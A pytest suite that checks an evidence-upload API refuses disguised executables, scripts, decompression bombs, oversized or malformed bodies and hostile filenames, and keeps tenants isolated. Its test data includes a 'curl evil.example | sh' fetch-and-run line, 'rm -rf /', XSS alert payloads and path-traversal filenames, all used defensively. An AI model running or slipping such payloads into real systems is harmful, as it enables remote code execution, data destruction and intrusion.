"""Evidence uploads over real HTTP: only PDF, PNG and JPEG by their bytes, size and image
dimensions capped, refused while streaming, filenames sanitized, tenants isolated, and a
refused upload writes nothing.

"Nothing written" is checked as ground truth: evidence and audit rows of the tenant counted
as superuser (bypasses RLS), and every file under EVIDENCE_DIR, spool files included.
Multipart bodies are built by hand so each test controls every byte the server sees.
"""

from __future__ import annotations

import contextlib
import hashlib
import io
import socket
import struct
import time
import uuid
import zlib
from pathlib import Path
from urllib.parse import urlsplit

import httpx
import pytest
from PIL import Image
from sqlalchemy import text
from sqlalchemy.exc import DBAPIError
from tests.support.db import add_user, app_session, su_rows, su_value
from tests.support.server import serving
from tests.support.users import Account, answers, signup

from rampart.config import get_settings
from rampart.evidence.service import evidence_root
from rampart.kit.db.transaction import Claims, transaction
from rampart.kit.jobs import loop
from rampart.kit.storage import LocalStorage, store_in_transaction

BOUNDARY = "rampart-test-boundary-7f3a"
MAX = 5 * 1024 * 1024  # EVIDENCE_MAX_BYTES default
GLOBAL_MAX = 1_048_576  # MAX_BODY_BYTES default


# --- bodies ------------------------------------------------------------------------------


def part(name: str, data: bytes, filename: str | None = "f", content_type: str = "") -> bytes:
    """One form part; a filename starting with `*=` is sent as RFC 5987 `filename*=`."""
    disposition = f'form-data; name="{name}"'
    if filename is not None and filename.startswith("*="):
        disposition += f"; filename{filename}"
    elif filename is not None:
        disposition += f'; filename="{filename}"'
    head = f"--{BOUNDARY}\r\nContent-Disposition: {disposition}\r\n"
    if content_type:
        head += f"Content-Type: {content_type}\r\n"
    return head.encode() + b"\r\n" + data + b"\r\n"


def form(*parts: bytes) -> bytes:
    return b"".join(parts) + f"--{BOUNDARY}--\r\n".encode()


def one_file(data: bytes, filename: str = "evidence.pdf", content_type: str = "") -> bytes:
    return form(part("file", data, filename, content_type))


def image(fmt: str, size: tuple[int, int] = (64, 48)) -> bytes:
    buf = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(buf, fmt)
    return buf.getvalue()


def pdf() -> bytes:
    return image("PDF")  # Pillow writes a real one-page PDF


def png_declaring(width: int, height: int) -> bytes:
    """A tiny PNG whose header claims width × height: decoding it would need the memory
    the header promises (a decompression bomb); its few real bytes are a zlib stream."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        crc = zlib.crc32(kind + data)
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc)

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00" * 100_000, 9))
        + chunk(b"IEND", b"")
    )


def jpeg_declaring(width: int, height: int) -> bytes:
    """A real small JPEG with its frame header (SOF0) patched to claim width × height."""
    data = bytearray(image("JPEG"))
    sof = data.index(b"\xff\xc0")
    data[sof + 5 : sof + 9] = struct.pack(">HH", height, width)
    return bytes(data)


# --- fixtures ----------------------------------------------------------------------------


@pytest.fixture(scope="module")
def owner(http: httpx.Client) -> Account:
    return signup(http, "Evidence Co")


@pytest.fixture(scope="module")
def assessment(http: httpx.Client, owner: Account) -> str:
    response = http.post("/api/v1/assessments", json={"answers": answers()}, headers=owner.headers)
    assert response.status_code == 202, response.text
    return response.json()["id"]


def url(assessment_id: str) -> str:
    return f"/api/v1/assessments/{assessment_id}/evidence"


def upload(
    http: httpx.Client, who: Account, assessment_id: str, body: bytes, **headers: str
) -> httpx.Response:
    return http.post(
        url(assessment_id),
        content=body,
        headers=who.headers
        | {"content-type": f"multipart/form-data; boundary={BOUNDARY}"}
        | headers,
    )


def root() -> Path:
    return evidence_root(get_settings())


def files() -> set[str]:
    base = root()
    return {str(p.relative_to(base)) for p in base.rglob("*") if p.is_file()}


def written(superuser: str, tenant_id: str) -> tuple[int, int, set[str]]:
    """(evidence rows, audit rows) of the tenant, and every file under EVIDENCE_DIR."""
    [(evidence, audit)] = su_rows(
        superuser,
        "SELECT (SELECT count(*) FROM evidence WHERE tenant_id = %(t)s),"
        " (SELECT count(*) FROM audit_events WHERE tenant_id = %(t)s)",
        {"t": tenant_id},
    )
    return evidence, audit, files()


def assert_refused(response: httpx.Response, status: int, code: str) -> dict:
    assert response.status_code == status, response.text
    error = response.json()["error"]
    assert error["code"] == code
    assert error["trace_id"] == response.headers["x-request-id"]
    return error


# --- accepted ----------------------------------------------------------------------------

ACCEPTED = [
    pytest.param(pdf, "application/pdf", id="pdf"),
    pytest.param(lambda: image("PNG"), "image/png", id="png"),
    pytest.param(lambda: image("JPEG"), "image/jpeg", id="jpeg"),
    pytest.param(lambda: image("PNG", (2048, 2048)), "image/png", id="png-2048x2048"),
]


@pytest.mark.parametrize("make, content_type", ACCEPTED)
def test_pdf_png_and_jpeg_are_stored_under_a_random_key_with_their_sha256(
    http, superuser, owner, assessment, make, content_type
):
    data = make()
    before = written(superuser, owner.tenant_id)
    # The client's name and type say otherwise: the bytes decide.
    body = one_file(data, "scan.bin", "application/octet-stream")
    response = upload(http, owner, assessment, body)
    assert response.status_code == 201, response.text
    out = response.json()
    assert out["content_type"] == content_type
    assert out["size"] == len(data)
    assert out["sha256"] == hashlib.sha256(data).hexdigest()
    assert out["filename"] == "scan.bin"
    assert out["assessment_id"] == assessment
    key = f"{owner.tenant_id}/{uuid.UUID(out['id']).hex}"
    assert (root() / key).read_bytes() == data
    rows, audits, stored = written(superuser, owner.tenant_id)
    assert (rows, audits, stored) == (before[0] + 1, before[1] + 1, before[2] | {key})
    listed = http.get(url(assessment), headers=owner.headers).json()["items"]
    assert out in listed


def test_a_file_between_the_global_body_limit_and_the_upload_limit_is_accepted(
    http, owner, assessment
):
    """MAX_BODY_BYTES (1 MiB) does not apply to the upload route: it has its own limit."""
    data = b"%PDF-1.7\n%" + b"0" * (3 * GLOBAL_MAX)
    response = upload(http, owner, assessment, one_file(data))
    assert response.status_code == 201, response.text
    assert response.json()["size"] == len(data)


def test_a_file_of_exactly_the_limit_is_accepted_and_one_byte_more_is_413(
    http, superuser, owner, assessment
):
    exact = b"%PDF-1.7\n%" + b"1" * (MAX - 10)
    assert len(exact) == MAX
    assert upload(http, owner, assessment, one_file(exact)).status_code == 201
    before = written(superuser, owner.tenant_id)
    response = upload(http, owner, assessment, one_file(exact + b"1"))
    assert_refused(response, 413, "payload_too_large")
    assert written(superuser, owner.tenant_id) == before


# --- refused by content ------------------------------------------------------------------

DISGUISED = [
    pytest.param(b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56, id="elf-executable"),
    pytest.param(b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 54, id="windows-exe"),
    pytest.param(b"#!/bin/sh\ncurl evil.example | sh\n", id="shell-script"),
    pytest.param(b"#!/usr/bin/env python3\nimport os\nos.system('id')\n", id="python-script"),
    pytest.param(b"<html><script>alert(1)</script></html>", id="html"),
    pytest.param(b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', id="svg"),
    pytest.param(b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + b"\x00" * 40, id="zip"),
    pytest.param(b"just some text, no magic at all\n", id="plain-text"),
    pytest.param(b"GIF89a\x01\x00\x01\x00\x00\x00\x00;", id="gif"),
    # The right magic, then something else: Pillow cannot decode it as the image it claims.
    pytest.param(b"\xff\xd8\xff\xe0\x00\x10JFIF\x00#!/bin/sh\nrm -rf /\n", id="jpeg-magic-script"),
    pytest.param(b"\x89PNG\r\n\x1a\n" + b"#!/bin/sh\n" * 10, id="png-magic-script"),
]


@pytest.mark.parametrize("data", DISGUISED)
def test_an_executable_or_script_renamed_pdf_is_415_and_writes_nothing(
    http, superuser, owner, assessment, data
):
    before = written(superuser, owner.tenant_id)
    response = upload(http, owner, assessment, one_file(data, "report.pdf", "application/pdf"))
    assert_refused(response, 415, "unsupported_media_type")
    assert written(superuser, owner.tenant_id) == before


BOMBS = [
    pytest.param(png_declaring(2049, 1), id="png-one-pixel-too-wide"),
    pytest.param(png_declaring(1, 2049), id="png-one-pixel-too-high"),
    pytest.param(png_declaring(3000, 3000), id="png-3000x3000"),
    pytest.param(png_declaring(100_000, 100_000), id="png-bomb-10-gigapixels"),
    pytest.param(jpeg_declaring(4000, 100), id="jpeg-too-wide"),
    pytest.param(jpeg_declaring(60_000, 60_000), id="jpeg-bomb"),
]


@pytest.mark.parametrize("data", BOMBS)
def test_images_over_2048_pixels_a_side_are_422_from_the_header_alone(
    http, superuser, owner, assessment, data
):
    """Every one of these has far fewer real pixels than it declares: a 422 naming the
    size (not a 415 "corrupt", which is what decoding would find) proves the refusal came
    from the header, before any decoding."""
    assert len(data) < 20_000
    before = written(superuser, owner.tenant_id)
    response = upload(http, owner, assessment, one_file(data, "photo.png"))
    error = assert_refused(response, 422, "validation_error")
    assert error["details"][0]["field"] == "file"
    assert "2048x2048" in error["details"][0]["problem"]
    assert written(superuser, owner.tenant_id) == before


# --- refused by shape --------------------------------------------------------------------

MALFORMED = [
    pytest.param(form(), {}, 422, "validation_error", id="no-file"),
    pytest.param(one_file(b""), {}, 422, "validation_error", id="empty-file"),
    pytest.param(
        form(part("file", pdf()), part("file", pdf())), {}, 422, "validation_error", id="two-files"
    ),
    pytest.param(
        form(part("note", b"hi", None), part("file", pdf())),
        {},
        422,
        "validation_error",
        id="extra-field",
    ),
    pytest.param(form(part("document", pdf())), {}, 422, "validation_error", id="wrong-field"),
    pytest.param(part("file", pdf()), {}, 400, "bad_request", id="no-closing-boundary"),
    pytest.param(b"garbage without any boundary", {}, 400, "bad_request", id="no-boundary"),
    pytest.param(
        f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="file"\r\n'.encode()
        + b"X-Bad: \xff\xfe\r\n\r\n%PDF\r\n"
        + f"--{BOUNDARY}--\r\n".encode(),
        {},
        400,
        "bad_request",
        id="part-header-not-utf8",
    ),
    pytest.param(
        one_file(pdf()),
        {"content-type": "application/pdf"},
        415,
        "unsupported_media_type",
        id="raw-pdf-not-multipart",
    ),
    pytest.param(
        one_file(pdf()),
        {"content-type": "multipart/form-data"},
        400,
        "bad_request",
        id="multipart-without-boundary",
    ),
    pytest.param(
        one_file(pdf()),
        {"content-type": "multipart/form-data; boundary=" + "b" * 71},
        400,
        "bad_request",
        id="boundary-too-long",
    ),
]


@pytest.mark.parametrize("body, headers, status, code", MALFORMED)
def test_a_malformed_upload_is_4xx_and_writes_nothing(
    http, superuser, owner, assessment, body, headers, status, code
):
    before = written(superuser, owner.tenant_id)
    response = upload(http, owner, assessment, body, **headers)
    assert_refused(response, status, code)
    assert written(superuser, owner.tenant_id) == before


# --- refused while streaming -------------------------------------------------------------


def _raw_post(api: str, token: str, path: str, headers: list[str]) -> socket.socket:
    parts = urlsplit(api)
    sock = socket.create_connection((parts.hostname, parts.port), timeout=15)
    lines = [
        f"POST {path} HTTP/1.1",
        f"Host: {parts.netloc}",
        f"Authorization: Bearer {token}",
        f"Content-Type: multipart/form-data; boundary={BOUNDARY}",
        *headers,
    ]
    sock.sendall(("\r\n".join(lines) + "\r\n\r\n").encode())
    return sock


def _read_response(sock: socket.socket) -> tuple[int, bytes]:
    data = b""
    while b"\r\n\r\n" not in data:
        chunk = sock.recv(65536)
        if not chunk:
            break
        data += chunk
    head, _, body = data.partition(b"\r\n\r\n")
    length = next(
        int(line.split(b":", 1)[1])
        for line in head.split(b"\r\n")
        if line.lower().startswith(b"content-length:")
    )
    while len(body) < length:
        body += sock.recv(65536)
    return int(head.split(b" ", 2)[1]), body


FILE_HEAD = (
    f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="big.pdf"\r\n\r\n'
).encode() + b"%PDF-1.7\n"


def test_an_oversized_upload_is_413_before_its_body_ends(api, superuser, owner, assessment):
    """Chunked, no Content-Length: the client sends just over the limit and then stops,
    never finishing the body. The 413 arrives anyway, so the server refused while the file
    streamed in; a server that buffered the whole body first would still be waiting."""
    before = written(superuser, owner.tenant_id)
    sock = _raw_post(api, owner.token, url(assessment), ["Transfer-Encoding: chunked"])
    with sock:
        sent, piece = 0, b"2" * 65536
        for data in (FILE_HEAD, *[piece] * (MAX // len(piece) + 2)):
            sock.sendall(f"{len(data):x}\r\n".encode() + data + b"\r\n")
            sent += len(data)
        assert MAX < sent < MAX + 256 * 1024  # over the limit, and the body is unfinished
        status, body = _read_response(sock)
    assert status == 413, body
    assert b'"payload_too_large"' in body
    assert written(superuser, owner.tenant_id) == before


def test_a_declared_length_over_the_limit_is_413_before_any_body(api, superuser, owner, assessment):
    before = written(superuser, owner.tenant_id)
    sock = _raw_post(api, owner.token, url(assessment), [f"Content-Length: {MAX + 10**6}"])
    with sock:
        status, body = _read_response(sock)  # not a byte of the body was sent
    assert status == 413, body
    assert b'"payload_too_large"' in body
    assert written(superuser, owner.tenant_id) == before


def test_no_database_transaction_is_open_while_the_file_streams_in(
    api, superuser, owner, assessment
):
    """The body is received before the request's transaction opens: a slow client holds
    a socket, never a pooled database connection."""
    data = pdf()
    body = one_file(data)
    sock = _raw_post(api, owner.token, url(assessment), [f"Content-Length: {len(body)}"])
    with sock:
        sock.sendall(body[: len(body) // 2])
        time.sleep(0.3)  # the server has read the first half and waits for the rest
        open_transactions = su_value(
            superuser,
            "SELECT count(*) FROM pg_stat_activity"
            " WHERE usename = 'app_rw' AND state LIKE 'idle in transaction%'",
        )
        sock.sendall(body[len(body) // 2 :])
        status, response = _read_response(sock)
    assert open_transactions == 0
    assert status == 201, response


# --- filenames ---------------------------------------------------------------------------

FILENAMES = [
    pytest.param("../../etc/passwd.pdf", "passwd.pdf", id="dot-dot-path"),
    pytest.param("/var/www/shell.pdf", "shell.pdf", id="absolute-path"),
    # In a quoted filename a backslash escapes the next character (RFC 7230), so the parser
    # drops them; sent percent-encoded (RFC 5987) they arrive, and the last segment is kept.
    pytest.param("C:\\Users\\x\\evil.pdf", "C_Usersxevil.pdf", id="windows-path-quoted"),
    pytest.param("*=UTF-8''C%3A%5CUsers%5Cx%5Cevil.pdf", "evil.pdf", id="windows-path-rfc5987"),
    pytest.param("*=UTF-8''..%2F..%2Fetc%2Fpasswd%00.pdf", "passwd.pdf", id="rfc5987-nul"),
    pytest.param("invoice\u202efdp.exe", "invoicefdp.exe", id="bidi-override"),
    pytest.param("a\x01b\x1fc\x7f.pdf", "abc.pdf", id="control-characters"),
    pytest.param(
        "<img src=x onerror=alert(1)>.pdf", "_img src=x onerror=alert(1)_.pdf", id="markup"
    ),
    pytest.param(".htaccess", "htaccess", id="hidden-file"),
    pytest.param("report.pdf. . .", "report.pdf", id="trailing-dots"),
    pytest.param("..", "upload", id="only-dots"),
    pytest.param("", "upload", id="empty"),
    pytest.param("r\u00e9sum\u00e9 2024.pdf", "r\u00e9sum\u00e9 2024.pdf", id="unicode-kept"),
    pytest.param("\uff0e\uff0e\uff0fsecret.pdf", "secret.pdf", id="fullwidth-dot-dot-slash"),
    pytest.param("a" * 500 + ".pdf", "a" * 196 + ".pdf", id="too-long"),
]


@pytest.mark.parametrize("raw_name, shown", FILENAMES)
def test_the_filename_is_sanitized_and_never_used_as_a_path(
    http, owner, assessment, raw_name, shown
):
    response = upload(http, owner, assessment, form(part("file", pdf(), raw_name)))
    assert response.status_code == 201, response.text
    out = response.json()
    assert out["filename"] == shown
    assert not any("passwd" in f or "shell" in f or "evil" in f for f in files())
    assert (root() / owner.tenant_id / uuid.UUID(out["id"]).hex).is_file()


# --- who may upload ----------------------------------------------------------------------


def test_without_a_token_it_is_401_before_the_body_is_read(http, superuser, owner, assessment):
    before = written(superuser, owner.tenant_id)
    response = http.post(
        url(assessment),
        content=one_file(pdf()),
        headers={"content-type": f"multipart/form-data; boundary={BOUNDARY}"},
    )
    assert_refused(response, 401, "unauthorized")
    assert written(superuser, owner.tenant_id) == before


def test_a_viewer_may_list_but_not_upload(http, superuser, owner, assessment):
    viewer = add_user(owner.tenant_id, "viewer")
    before = written(superuser, owner.tenant_id)
    assert_refused(upload(http, viewer, assessment, one_file(pdf())), 403, "forbidden")
    assert written(superuser, owner.tenant_id) == before
    assert http.get(url(assessment), headers=viewer.headers).status_code == 200


def test_a_member_may_upload_to_a_colleagues_assessment(http, owner, assessment):
    member = add_user(owner.tenant_id, "member")
    response = upload(http, member, assessment, one_file(image("PNG")))
    assert response.status_code == 201, response.text


def test_another_tenants_assessment_is_404_for_upload_and_list(http, superuser, owner, assessment):
    stranger = signup(http, "Stranger Co")
    before = written(superuser, owner.tenant_id), written(superuser, stranger.tenant_id)
    response = upload(http, stranger, assessment, one_file(pdf()))
    assert_refused(response, 404, "not_found")
    assert_refused(http.get(url(assessment), headers=stranger.headers), 404, "not_found")
    assert_refused(upload(http, stranger, str(uuid.uuid4()), one_file(pdf())), 404, "not_found")
    after = written(superuser, owner.tenant_id), written(superuser, stranger.tenant_id)
    assert after == before


def test_the_list_holds_only_this_assessments_evidence_oldest_first(http, owner, assessment):
    other = http.post("/api/v1/assessments", json={"answers": answers()}, headers=owner.headers)
    other_id = other.json()["id"]
    first = upload(http, owner, other_id, one_file(pdf(), "first.pdf")).json()
    second = upload(http, owner, other_id, one_file(image("JPEG"), "second.jpg")).json()
    listed = http.get(url(other_id), headers=owner.headers).json()["items"]
    assert listed == [first, second]
    assert all(
        item["assessment_id"] == assessment
        for item in http.get(url(assessment), headers=owner.headers).json()["items"]
    )


def test_uploads_are_rate_limited_per_user_before_the_body_is_read(superuser):
    with serving(RATE_LIMIT_UPLOADS_PER_USER="2/hour") as client:
        user = signup(client, "Busy Co")
        created = client.post(
            "/api/v1/assessments", json={"answers": answers()}, headers=user.headers
        )
        target = created.json()["id"]
        for _ in range(2):
            assert upload(client, user, target, one_file(pdf())).status_code == 201
        before = written(superuser, user.tenant_id)
        response = upload(client, user, target, one_file(pdf()))
        assert_refused(response, 429, "rate_limited")
        assert 1 <= int(response.headers["retry-after"]) <= 3600
        # Counted before the body: even an oversized one gets the 429, not a 413.
        response = upload(client, user, target, one_file(b"%PDF-" + b"0" * (MAX + 1)))
        assert_refused(response, 429, "rate_limited")
        assert written(superuser, user.tenant_id) == before
        # Per user: a colleague still may.
        colleague = add_user(user.tenant_id, "member")
        assert upload(client, colleague, target, one_file(pdf())).status_code == 201


# --- the database and storage guards on their own ----------------------------------------


def test_rls_refuses_evidence_for_an_assessment_the_tenant_cannot_see(http, owner, assessment):
    """Even if the service's 404 check were gone, app_rw under another tenant's claims
    cannot attach a row to this assessment: the policy's subquery runs under its RLS."""
    stranger = signup(http, "Policy Co")
    claims = Claims(tenant_id=stranger.tenant_id, sub=stranger.user_id)
    with pytest.raises(DBAPIError, match="row-level security"), app_session(claims) as session:
        session.execute(
            text(
                "INSERT INTO evidence (tenant_id, assessment_id, uploaded_by, filename,"
                " content_type, size_bytes, sha256, storage_key) VALUES (:t, :a, :u,"
                " 'x.pdf', 'application/pdf', 1, repeat('0', 64), :k)"
            ),
            {
                "t": stranger.tenant_id,
                "a": assessment,
                "u": stranger.user_id,
                "k": uuid.uuid4().hex,
            },
        )


@pytest.mark.parametrize("outcome", ["commits", "rolls-back", "commit-fails"])
def test_a_stored_file_stays_only_if_its_transaction_commits(tmp_path, owner, outcome):
    storage = LocalStorage(tmp_path / "store")
    source = storage.spool_dir() / "incoming"
    source.write_bytes(b"%PDF-1.7\n")
    key = f"{owner.tenant_id}/{uuid.uuid4().hex}"
    claims = Claims(tenant_id=owner.tenant_id, sub=owner.user_id)

    async def attempt() -> None:
        async with transaction(claims) as tx:
            await store_in_transaction(tx, storage, key, source)
            assert (storage.root / key).is_file()  # stored before the COMMIT
            if outcome == "rolls-back":
                raise RuntimeError("the request failed after storing")
            if outcome == "commit-fails":  # a deferred unique violation fails the COMMIT itself
                await tx.execute(
                    "CREATE TEMP TABLE once (x int UNIQUE DEFERRABLE INITIALLY DEFERRED)"
                    " ON COMMIT DROP"
                )
                await tx.execute("INSERT INTO once VALUES (1), (1)")

    with contextlib.suppress(Exception):  # the outcome is checked on the file system below
        loop.run(attempt())
    assert (storage.root / key).is_file() is (outcome == "commits")
    assert not source.exists()
